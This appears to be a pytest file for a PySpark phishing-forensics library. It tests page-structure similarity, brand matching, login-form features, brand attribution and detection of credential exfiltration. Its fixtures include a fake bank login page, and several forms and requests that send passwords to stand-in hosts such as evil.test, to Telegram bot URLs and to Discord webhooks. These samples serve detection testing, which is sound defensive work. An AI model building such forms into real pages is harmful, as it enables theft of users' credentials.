from pyspark.sql import functions as F

from webwarden.functions import forensics as f
from webwarden.functions import html as h

LOGIN = '<html><head><title>Acme bank</title></head><body><form action="/in"><input type="text" name="user"><input type="password" name="pass"><button type="submit">Go</button></form><img src="http://cdn.test/a.png"><a href="#">x</a></body></html>'
ARTICLE = "<html><body><ul>" + "<li>text</li>" * 30 + "</ul></body></html>"


def one(spark, *cols):
    return spark.range(1).select(*cols).first()


def test_structure(spark):
    s = lambda m: f.page_structure(F.lit(m))
    sim = lambda a, b: f.structure_similarity(F.col(a), F.col(b))
    df = spark.range(1).select(s(LOGIN).alias("a"), s(LOGIN.replace("user", "mail")).alias("b"), s(ARTICLE).alias("c"), s("").alias("d"))
    same, clone, other, none = df.select(sim("a", "a"), sim("a", "b"), sim("a", "c"), sim("a", "d")).first()
    assert same == 1.0 and clone >= 0.70 and other < 0.40 and none == 0.0
    assert tuple(df.select("a.topology").first()[0]) == (1, 1, 1, True)


def test_reference_match(spark):
    pages = spark.createDataFrame([(1, LOGIN), (2, ARTICLE), (3, LOGIN.replace("Acme", "Other"))], "id int, html string")
    refs = spark.createDataFrame([("acme", ["acme"], LOGIN), ("zeta", ["zeta"], ARTICLE)], "brand string, words array<string>, html string")
    got = {r["id"]: (r["brand"], r["score"]) for r in f.reference_match(pages, refs, "id", "html").collect()}
    assert got[1][0] == "acme" and got[1][1] >= 0.70 and got[2][0] == "zeta" and got[3][0] == "acme"


def test_content_measures(spark):
    m = f.content_measures(F.lit(LOGIN), F.lit("https://www.acme.test/"))
    r = one(spark, *[c.alias(k) for k, c in m.items()])
    assert (r["login_form"], r["title_domain"], r["empty_link"], r["external_resource"], r["internal_link"], r["alarm_window"], r["hidden"]) == (1, 1, 1, 1, 1, 0, 0)


def test_requests(spark):
    rows = [(1, "a.test", 1, "https://a.test/x", "GET", "password=1"), (1, "a.test", 2, "https://evil.test/p", "POST", "password=1"), (1, "a.test", 3, "https://api.telegram.org/bot1:a/sendMessage", "POST", ""), (2, "a.test", 1, "https://a.test/q", "POST", "q=1"), (3, "a.test", 1, "https://api.a.test/q", "PUT", "pass=1")]
    df = spark.createDataFrame(rows, "scan int, own string, o int, url string, method string, body string")
    got = {r["scan"]: (r["protocol"], r["is_external"]) for r in f.first_exfiltration(df.withColumn("u", F.col("url")), "scan", "own", "o", "u", "method", "body").collect()}
    assert got == {1: ("http_post", True), 3: ("http_post", False)}


def test_recognised(spark):
    t = lambda s: f.recognised(F.lit(s), ["paypal", "face book"])
    assert [tuple(x) for x in one(spark, t("P A Y P A L  please Sign in"), t("F a c e b o o k"), t("a longer text of nothing"), t(None))] == [("paypal", "sign in", 0.95), ("face book", "", 0.8), ("", "", 0.35), ("", "", 0.0)]


def test_ladder_and_attribution(spark):
    n = F.lit(None).cast("string")
    z = F.lit(None).cast("double")
    L = lambda lex, ls, dom, ds, con, cs, vis, vs: f.brand_ladder(*[F.lit(x) if x is not None else n for x in (lex,)], F.lit(ls), F.lit(dom), F.lit(ds), F.lit(con), F.lit(cs), F.lit(vis), F.lit(vs))
    assert tuple(one(spark, L("a", 0.6, "b", 0.9, "c", 0.9, "d", 0.9), L("a", 0.5, "b", 0.4, "c", 0.9, "d", 0.9), L("", 0.9, "b", 0.3, "c", 0.55, "d", 0.9), L("", 0.9, "b", 0.3, "c", 0.1, "d", 0.65), L(None, 0.9, "", 0.0, "", 0.1, "d", 0.79))) == ("a", "b", "c", "d", None)
    a = lambda text, lex: f.attribution(F.lit(text), F.lit(lex), n, z, n, z, {"pay": ["pay"], "bank": ["bank"]})
    assert [tuple(x) for x in one(spark, a("x", "bank"), a("your seed phrase", ""), a("login", ""), a("", ""))] == [("bank", f.IMPERSONATION, 0.4), *[f.ARCHETYPES[k] for k in ("wallet", "login", "none")]]
    b = lambda **k: f.attribution(F.lit("x"), F.lit(""), n, z, n, z, {"pay": ["pay"], "bank": ["bank"]}, official={"pay": ["Pay.test"], "bank": ["bank.test"]}, **k)
    got = one(spark, b(host=F.lit("a.pay.test")), b(host=F.lit("apay.test"), relay=F.lit(True), qr=F.lit(True)), b(qr=F.lit(True)), b())
    assert [tuple(x) for x in got] == [("pay", f.OFFICIAL, 1.0), *[f.ARCHETYPES[k] for k in ("relay", "qr", "none")]]
    assert tuple(one(spark, f.attribution(F.lit("x"), F.lit("pay"), n, z, n, z, {"pay": ["q"]}, relay=F.lit(True)))[0]) == ("pay", f.RELAY_OF_BRAND, 0.4)
    read = lambda r, rs, ds=0.0, vis="", vs=0.0: f.brand_ladder(n, z, n, F.lit(ds), n, z, F.lit(vis), F.lit(vs), F.lit(r), F.lit(rs), F.array(F.lit("acmebank"), F.lit("d")))
    assert tuple(one(spark, read("Acme Bank", 0.75), read("acme_bank", 0.1, 0.25), read("other", 0.9), read("acmebank", 0.6), read("acmebank", 0.5), read("d", 0.5, vis="d", vs=0.65))) == ("acmebank", "acmebank", None, "acmebank", None, "d")


def test_nodes_of_pages(spark):
    df = spark.createDataFrame([(1, LOGIN), (2, '<div><input type="password"></div>'), (3, None)], "id bigint, html string")
    nodes = h.html_nodes(df, "id", "html")
    assert {r["page_id"]: (r["secrets"], r["outside"]) for r in f.formless_secrets(nodes).collect()} == {1: (1, 0), 2: (1, 1)}
    text = {r["page_id"]: r["text"] for r in f.semantic_text(nodes).collect()}[1]
    assert text.startswith("acme bank /in user pass go") and "cdn.test" in text
    paths = {r["path"] for r in f.tag_paths(df, "id", "html").filter("page_id = 1").collect()}
    assert "/html/body/form" in paths and "/html/body/form/input" in paths and not any("title/" in p for p in paths)


def test_forms_that_go_to_chat_hooks(spark, tmp_path):
    from webwarden.plans.forensics import outbound_requests

    form = lambda action, kind: f'<html><body><form action="{action}" method="post"><input type="{kind}" name="x"></form></body></html>'
    hooks = ["https://discord.com/api/webhooks/1/a", "//api.telegram.org/bot1:a/sendMessage"]
    pages = [(1, form(hooks[0], "text")), (2, form(hooks[1], "password")), (3, form("/in/side", "password")), (4, form("https://evil.test/p", "password")), (5, form("https://discord.com/other", "text"))]
    spark.createDataFrame([(i, "https://a.test/x", m, "") for i, m in pages], "capture_id bigint, url string, dom_html string, matched_brand string").write.parquet(f"{tmp_path}/page_captures.parquet")
    spark.createDataFrame([("acme", ["acme.test"])], "brand_id string, canonical_domains array<string>").write.parquet(f"{tmp_path}/protected_brands.parquet")
    got = {r["capture_id"]: (r["protocol"], r["destination"], r["is_external"]) for r in outbound_requests(spark, str(tmp_path)).collect()}
    assert got == {1: ("chat_webhook", hooks[0], True), 2: ("chat_bot", "https:" + hooks[1], True), 3: ("http_post", "https://a.test", False), 4: ("http_post", "https://evil.test", True)}
